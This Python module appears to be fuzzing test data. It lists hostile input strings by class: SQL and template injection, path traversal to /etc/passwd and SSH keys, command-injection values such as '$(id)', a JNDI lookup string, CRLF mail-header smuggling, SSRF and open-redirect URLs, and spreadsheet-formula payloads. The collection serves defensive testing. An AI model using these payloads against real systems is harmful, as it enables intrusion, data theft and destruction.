"""Hostile strings that mean something to a machine behind the page: databases, mail, files, links."""

from __future__ import annotations

from itertools import product

_QUOTES = ["'", '"', "`", "')", '")', "'))", "$$", "\\'", "%27", "ʼ", "';", '";']
_SQL_TAILS = [
    " OR 1=1--", " OR '1'='1", " UNION SELECT null--", "; DROP TABLE ticket--", " AND sleep(5)--",
    " AND 1=(SELECT 1 FROM pg_sleep(5))--", "||pg_sleep(5)--", " AND randomblob(900000000)--",
    '; UPDATE "user" SET role_id=1--', " ORDER BY 99--", "/*", "/**/OR/**/1=1#",
]  # fmt: skip
SQL = [
    *_QUOTES,
    *(f"x{quote}{tail}" for quote, tail in product(_QUOTES[:8], _SQL_TAILS)),
    "1 OR 1=1", "1; SELECT 1", "1) OR (1=1", "id", "id DESC", "password", "user.password_hash", "(SELECT 1)",
    '1,(SELECT password_hash FROM "user")', "CASE WHEN 1=1 THEN id ELSE number END", "sqlite_master",
    "information_schema.tables", "pg_catalog.pg_user", "NULL", "null", "None", "true", "@@version", "--", "#",
    "/* */", ":id", "?", "%s", "%(id)s", "$1", "E'\\x27'", "x'6162'", "0x27", "CAST(1 AS INTEGER)", "ROWID",
]  # fmt: skip
LIKE = [
    "%", "%%", "_", "__", "%_%", "a%", "%a", "_%_", "\\", "\\\\", "\\%", "\\_", "[a-z]", "[^a]", "%' ESCAPE '",
    "%" * 400, "_%" * 200, "*", "?", "a*b?c", "%e%e%e%e%e%e%e%e%e%e%e%e%z",
]  # fmt: skip
FULL_TEXT = [
    '"', '""', '"unclosed', "a AND b", "a OR", "OR a", "NOT", "NOT a", "a NOT b", "NEAR(a b)", "NEAR(a b, 99999999)",
    "NEAR", "a NEAR/2 b", "body:a", "col:a", "{body}: a", "- body: a", "^a", "a*", "*", "a**", "(a", "a)", "((((((a))))))",
    "(" * 300 + "a" + ")" * 300, "a + b", "a+b", "search_index MATCH 'a'", "rank", "rowid:1", "a AND NOT", "'a':*",
    "a & b", "a | b", "!a", "!!a", "a <-> b", "a <2> b", "a <99999> b", "a:*", "a:ABCD", "a:*A", "&", "|", "!", "<->",
    "& & &", "a & & b", "'", "''", "\\", "a\\:b", "'a b' & c", "a:1A", "( )", "!(a & b)", "is:", "from:", "from:%",
    'tag:"', 'tag:""', "in:'", "assignee:_", "after:0000-00-00", "after:9999-99-99", "before:2024-02-30",
    "after:9999-12-31", "before:0001-01-01", "is:is:open", "has:has", "from:" + "a" * 600, "#", "#0", "#-1",
    "#999999999999999", "999999999999999", "is:everything", "from:from:from:", " ".join(["a"] * 250),
    " ".join(f"w{n}" for n in range(120)), "is:open " * 60, "tag:a " * 80, "-a", "--a", "+a", "~a", "a~2", "/a/", "a^2",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "{{ config }}", "{{ self.__init__.__globals__ }}", "{% raw %}", "{% for x in (1,) %}", "{#", "#}", "{{",
    "}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{ request.application }}", "{%", "${7*7}", "${{7*7}}",
    "#{7*7}", "<%= 7*7 %>", "<% 7*7 %>", "<?php echo 1 ?>", "{php}1{/php}", "*{7*7}", "@(7*7)", "~{7*7}", "{{=7*7}}",
    "[[7*7]]", "$(id)", "`id`", "${jndi:ldap://x.test/a}", "{0}", "{}", "{0.__class__}", "{name}", "{a[0]}", "{:>99999999}",
    "{!r}", "{0:{1}}", "%(name)s", "%(name)999999d", "%s%s%s%s", "%n", "%x", "%p", "%d", "%999999999s", "%", "%%", "%1$s",
    "%c", "%(", "%(num)s", "%(people)s", "{{name.field}}", "{{ ticket.number", "\\{{x\\}}", "$name", "$$", "${", "#set($x=1)",
]  # fmt: skip
PATHS = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "C:\\boot.ini", "\\\\host\\share", "....//....//",
    "..%2f..%2fetc%2fpasswd", "..%252f", "..%c0%af", "%2e%2e/", "file:///etc/passwd", ".", "..", "...", "/", "//", "\\",
    "./././", "~root", "~/.ssh/id_rsa", "CON", "nul.txt", "COM1", "aux.", "a:b", "a.txt::$DATA", "a/../b", "/dev/zero",
    "/proc/self/environ", "a" * 255 + ".txt", ".htaccess", ".env", "x.tar.gz", "x.php\x00.png", "x.html ", "x.svg.", "-rf",
    "--help", "| id", "; id", "&& id", "$IFS", "a\nb.txt", "a\rb.txt", "a\tb.txt", "con\u202etxt.exe", "…", "\u2215etc",
    "．．／", "file.txt;name=x", 'f"name.txt', "f'name.txt", "a*?.txt", "<a>.txt", "%PATH%", "${HOME}",
]  # fmt: skip
_BREAKS = [
    "\r\n",
    "\n",
    "\r",
    "\r\n ",
    "\n\t",
    "%0d%0a",
    "\u2028",
    "\u2029",
    "\x85",
    "\v",
    "\f",
    "\\r\\n",
    "嘊",
    "\r\n\r\n",
]
_HEADERS = [
    "Bcc: x@evil.test",
    "Content-Type: text/html",
    "Set-Cookie: a=b",
    "Location: //evil.test",
    "X-A: b",
]
HEADERS = [f"Hi{mark}{header}" for mark, header in product(_BREAKS, _HEADERS)] + [
    "Hi\r\n\r\n<script>alert(1)</script>", "Hi\r\n.\r\nMAIL FROM:<a@evil.test>", "\r\nHTTP/1.1 200 OK\r\n\r\nx",
]  # fmt: skip
_WORDS = [
    "Hi=0D=0ABcc:_x@evil.test", "Hi=0ABcc:_x@evil.test", "=0D=0A=0D=0Abody", "=00", "=E2=80=A8Bcc:_x", "=3D?", "a" * 80, "",
    "=0D=0A_Bcc:_x", "=", "=ZZ", "?=", "=C0=80", "=ED=A0=80",
]  # fmt: skip
ENCODED_WORDS = [
    *(f"=?{charset}?q?{word}?=" for charset, word in product(("utf-8", "iso-8859-1", "us-ascii"), _WORDS)),
    "=?utf-8?b?SGkNCkJjYzogeEBldmlsLnRlc3Q=?=", "=?utf-8?b?SGkKQmNjOiB4QGV2aWwudGVzdA?=", "=?utf-8?b?////?=",
    "=?utf-7?q?+AA0ACg-Bcc:_x?=", "=?iso-2022-jp?b?GyRC?=", "=?utf-16?b?//4NAAoA?=", "=?x-unknown?q?a?=", "=?utf-8?q?a",
    "=?utf-8?x?a?=", "=?" * 200, "=?=?=?", "=?utf-8*en?q?a?=", "a =?utf-8?q?b?= =?utf-8?q?c?= d", "=?utf-8?q?=?utf-8?q?a?=?=",
    "=?rot13?q?Opp?=", "=?idna?q?a?=", "=?unicode_escape?q?=5Cx0a?=", "=?base64?b?YQ==?=", "=?zlib?b?eJw=?=",
    'x" =?utf-8?q?=22=0D=0ABcc:?= <y@evil.test>',
]  # fmt: skip
_SMTP_LINES = ["RCPT TO:<x@evil.test>", "DATA", "RSET", "QUIT", "VRFY root", "MAIL FROM:<>", "."]
COMMANDS = [
    *(f"a@b.test{end}{line}" for end, line in product((">\r\n", "\r\n", "\n", ">\n"), _SMTP_LINES)),
    "INBOX\r\nA1 DELETE INBOX", 'INBOX" {5}\r\n', "{10}", "{10+}\r\nLOGOUT", 'a" OR ALL', "*", "%", '"\\', "&AAA-", "&", "&-",
    "&ZeVnLIqe-", "INBOX.\x00", "INBOX/../../other", "~peter/mail", "#news.comp", "A001 LOGOUT", ")\r\n(", "NIL", "SIZE=1",
    "BODY=8BITMIME", "user\x00other\x00password", "AUTH=<>", "\\Deleted", "\\Seen \\Deleted", "1:*", "1,2,3:*", "UID 1:*",
]  # fmt: skip
ADDRESSES = [
    "a@b", "a@b.c", "@", "a@", "@b.test", "a@@b.test", "a@b@c.test", "a b@c.test", "a@b c.test", ".a@b.test", "a.@b.test",
    "a..b@c.test", "a@.b.test", "a@b..test", "a@-b.test", "a@b-.test", "a@b.test.", '"a b"@c.test', '"a@b"@c.test',
    '""@c.test', '"a\\"b"@c.test', "a@[127.0.0.1]", "a@[IPv6:::1]", "a@127.0.0.1", "a@localhost", "a@[", "a@[]", "a@]",
    "<a@b.test>", "Ann <a@b.test>", "Ann <a@b.test", "a@b.test>", "<<a@b.test>>", "a@b.test (comment)", "(c)a@b.test",
    "a@b.test, c@d.test", "a@b.test; c@d.test", "a@b.test c@d.test", "group: a@b.test;", "undisclosed-recipients:;",
    "a%b@c.test", "a!b@c.test", "@route:a@b.test", "a+b+c@d.test", "A@B.TEST", "ä@b.test", "a@ä.test", "a@xn--4ca.test",
    "a@xn--.test", "a@xn--a.test", "用户@例え.テスト", "a@ⓔⓧ.test", "a@e\u0301.test", "а@b.test", "a@b\u200b.test",
    "a@b\u3002test", "a@b．test", "\u202ea@b.test", "a\x00@b.test", "a@b.test\x00", "a@b.test\r\nBcc: c@d.test",
    "a@b.test\nRCPT TO:<c@d.test>", "a@b.test?bcc=c@d.test", "mailto:a@b.test", "a@b.test%0aBcc:c@d.test", "-a@b.test",
    "--help@b.test", "|id@b.test", "`id`@b.test", "$(id)@b.test", "a@" + "b" * 300 + ".test", "a" * 300 + "@b.test",
    "a@" + "b." * 200 + "test", "a@b." + "c" * 64, "postmaster@", "mailer-daemon@b.test", "a@1", "a@b.1", "a@b.test/path",
    "a@b.test:25", "\\a@b.test", "a@b\\.test", "a'b@c.test", "a' OR '1'='1'@b.test", "{a}@b.test", "a,b@c.test", "a;b@c.test",
    "a:b@c.test", "a<b@c.test", "a[b]@c.test", "=?utf-8?q?a?=@b.test", "a@=?utf-8?q?b?=.test", "a@b_c.test", "\t@\t", "@,@,@",
]  # fmt: skip
PLACES = [
    "//evil.test", "///evil.test", "////evil.test", "/\\evil.test", "\\\\evil.test", "/\t/evil.test", "/\n/evil.test",
    "\t//evil.test", " //evil.test", "https:evil.test", "https:/evil.test", "https://evil.test", "http:///evil.test",
    "javascript:alert(1)", "java\nscript:alert(1)", "JAVASCRIPT:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc",
    "/.evil.test", "/..//evil.test", "/%2f/evil.test", "/%5cevil.test", "/%09/evil.test", "//evil%E3%80%82test", "〱evil.test",
    "/@evil.test", "//user@evil.test", "//evil.test:80\\@127.0.0.1", "?next=//evil.test", "#//evil.test", ".evil.test",
    "@evil.test", ":80", "http://[::1]/", "http://[", "http://]", "//[", "http://evil.test\\@127.0.0.1", "/v/open\r\nX: y",
    "/v/open\x00", "//\u2100.test", "//evil.test\u3002", "/\u2029/evil.test", "http://①②⑦.⓪.⓪.①/", "http://0x7f.1/",
    "http://127.1/", "http://2130706433/", "http://localhost:1/", "http://169.254.169.254/", "ftp://evil.test", "blob:x",
    "/sign-out", "/admin", "/setup", "ldap://evil.test", "gopher://evil.test", "dict://evil.test:1", "\u0000//evil.test",
]  # fmt: skip
HOSTS = [
    "evil.test", "127.0.0.1:99999", "127.0.0.1:-1", "127.0.0.1:x", "localhost@evil.test", "evil.test#", "evil.test/", "a b",
    "[::1", "[::1]:80", "127.0.0.1, evil.test", '"evil"', "<script>", "evil.test\t", "x" * 300, "127.0.0.1%00", "..", "-",
    "xn--a", "ä.test", "localhost:80:80", "*", "%0d%0a", "'", "127.0.0.1\\evil.test", "user:pass@127.0.0.1", ":", "",
]  # fmt: skip
NUMBERS = [
    "0", "-0", "-1", "+1", "00", "01", "1.0", "1.5", "1,5", "1e3", "1e999", "-1e999", "NaN", "nan", "-nan", "inf", "Infinity",
    "-Infinity", "0x10", "0b1", "0o7", "1_000", "١٢٣", "１２３", "²", "½", "一", "1 ", " 1", "1\n", "\u00a01", "--1", "1-1", "1/0",
    "127", "128", "255", "256", "32767", "32768", "65535", "65536", "2147483647", "2147483648", "-2147483649", "4294967296",
    "9007199254740993", "9223372036854775807", "9223372036854775808", "-9223372036854775808", "-9223372036854775809",
    "18446744073709551616", "1" + "0" * 30, "1" + "0" * 400, "9" * 4_299, "0" * 4_000 + "1", "1" * 20, "0.1", ".5", "5.", "1d",
    "2024-01-01", "9999-12-31", "0000-00-00", "2024-02-30", "10000-01-01", "-0001-01-01", "24:00", "25:61", "1970-01-01T00:00Z",
]  # fmt: skip
CURSORS = [
    "a0-0", "b0-0", "a", "b", "-", "a-", "a--1", "a0--1", "a0--" + "f" * 30, "a-" + "f" * 30 + "-1", "a" + "f" * 13 + "-1",
    "a" + "f" * 14 + "-1", "a0-" + "f" * 16, "a0-7fffffffffffffff", "a0-8000000000000000", "a0x1-0x1", "a1_0-1_0", "c1-1",
    "a١-١", "0-0-0-0", "-1-1-1-1", "ffffffffffffffffffff-0-0-0", "1-1", "1--1", "--------", "0-0-0--" + "9" * 30,
    "a-3bb2cc3d800-1", "a-ffffffffffff-1", "0.5-1", "inf-1", "nan-nan", "1e400-1", "-1e400-1", "1-" + "9" * 30, "x-1", "1-x",
]  # fmt: skip
SHAPES = [
    "[]", "{}", "[[]]", '{"a":1}', '["a","b"]', "null", "true", "false", '"text"', "undefined", "[object Object]", "()", "(1,)",
    "a[]", "a[0]", "a[b]", "a.b", "__proto__", "constructor", "__class__", "__dict__", "None", "True", "os.system", "id=1",
    "a&b=c", "a=b", "a;b", "a,b", "|", "||", "1,2,3", "[" * 500, '{"a":' * 200, "!!python/object:os.system", "rO0ABXNy",
    "gASVAAAA", "<map/>", "---\n- a", "a: &a [*a]", "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1",
    "_method", "DELETE", "csrf_token", "\\", "\\\\", "\\n", "\\u0027", "\\x27", "\\'", '\\"', "'\"`", "\"'", "’“”",
]  # fmt: skip

CLASSES: dict[str, list[str]] = {
    "sql": SQL,
    "like": LIKE,
    "full text": FULL_TEXT,
    "templates": TEMPLATES,
    "paths": PATHS,
    "headers": HEADERS,
    "encoded words": ENCODED_WORDS,
    "commands": COMMANDS,
    "addresses": ADDRESSES,
    "places": PLACES,
    "hosts": HOSTS,
    "numbers": NUMBERS,
    "cursors": CURSORS,
    "shapes": SHAPES,
}
